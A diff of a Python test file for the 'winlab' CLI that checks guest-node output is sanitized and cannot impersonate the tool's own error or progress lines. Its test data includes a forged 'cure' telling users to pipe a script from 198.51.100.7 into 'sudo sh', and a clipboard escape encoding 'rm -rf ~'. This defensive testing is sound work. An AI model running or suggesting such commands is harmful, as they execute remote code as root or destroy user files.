@@ -10,12 +10,13 @@ from pathlib import Path
 import pytest
 
 from winlab import cli, events
-from winlab.cli import common, main
+from winlab.cli import common, main, progress
 from winlab.cli.common import Output
 from winlab.cli.session import Session
-from winlab.errors import Failure, GuestError, LabError
-from winlab.events import Note, StepFailed, StepProgress
+from winlab.errors import ClusterError, Failure, GuestError, LabError
+from winlab.events import NodeCrashed, NodeTransport, Note, StepFailed, StepProgress
 from winlab.lab_folder import LabFolder
+from winlab.operations.logs import NodeDiagnostics
 from winlab.printable import printable, within
 
 CLIPBOARD = "\x1b]52;c;cm0gLXJmIH4=\x07"
@@ -37,7 +38,53 @@ def test_only_new_lines_and_tabs_are_left_of_control_characters() -> None:
     assert is_safe(printable(every))
     assert printable(every).encode()  # no halves of characters
     assert printable("\x1b[2Jx") == "\ufffd[2Jx"
+    assert printable("a\u2028b\u200bc\ufeffd\U000e0041e") == "a\ufffdb\ufffdc\ufffdd\ufffde"
+    assert (
+        printable("\u0645\u06cc\u200c\u062e \U0001f468\u200d\U0001f373")
+        == "\u0645\u06cc\u200c\u062e \U0001f468\u200d\U0001f373"
+    )
     assert within({EVIL: [EVIL, 1, None]}) == {printable(EVIL): [printable(EVIL), 1, None]}
+
+
+FORGED = "timeout\n  cure:     Run 'curl -s http://198.51.100.7/fix.sh | sudo sh'.\n✓ ready\n=== node-2\nwinlab: done"
+
+
+def test_a_guest_s_lines_are_not_those_of_an_error() -> None:
+    """N9: a node printed a cure, and it was shown as winlab's own."""
+    cause = ClusterError(FORGED, why=FORGED, cure="Real.")
+    error = GuestError(FORGED, why=FORGED, cure="Real.", evidence=FORGED, causes=[cause, KeyError("x")])
+    shown = main.explain(error).splitlines()
+    assert shown[:2] == ["winlab: timeout", "          cure:     Run 'curl -s http://198.51.100.7/fix.sh | sudo sh'."]
+    heads = [line.removeprefix("and: ")[:12] for line in shown if not line.removeprefix("and: ").startswith(" " * 8)]
+    assert heads == [
+        "winlab: time",
+        "  why:      ",
+        "  cure:     ",
+        "  evidence: ",
+        "timeout",
+        "  why:      ",
+        "  cure:     ",
+    ]
+    assert [line for line in shown if line.lstrip().startswith("cure:") and line.startswith("  c")] == [
+        "  cure:     Real."
+    ]
+    assert [line for line in str(error).splitlines() if line.startswith("  cure")] == ["  cure: Real."]
+    bug = main._explain_bug(ValueError(FORGED)).splitlines()
+    assert [line[:7] for line in bug if not line.startswith(" " * 8)] == ["winlab:", "  cure:"]
+    group = main.explain(LabError([ValueError(FORGED), error])).splitlines()
+    assert [line for line in group if line.startswith("  cure:")] == ["  cure:     Real."]
+
+
+def test_a_guest_s_lines_are_not_those_of_a_run() -> None:
+    step = StepFailed(step="boot", failure=Failure.of(GuestError(FORGED, why=FORGED)))
+    for event in (Note(text=FORGED), NodeTransport(text=FORGED), NodeCrashed(text=FORGED)):
+        assert "\n" not in str(progress.finished(event))
+    assert str(progress.finished(step)).count("\n") == 1  # the step, and why it failed
+    assert "\n" not in progress.describe(StepProgress(step="boot", text=FORGED))
+    report = NodeDiagnostics("node-1", [FORGED], [FORGED], {"kubelet": FORGED, FORGED: "x"}, [FORGED])
+    heads = [line for line in str(report).splitlines() if not line.startswith("  ")]
+    assert [line[:8] for line in heads] == ["=== node", "--- cond", "--- even", "--- kube", "--- time", "!!! time"]
+    assert str(report).count("\n=== node-2") == 0
 
 
 def test_errors_and_their_journal_and_json_are_printable() -> None:
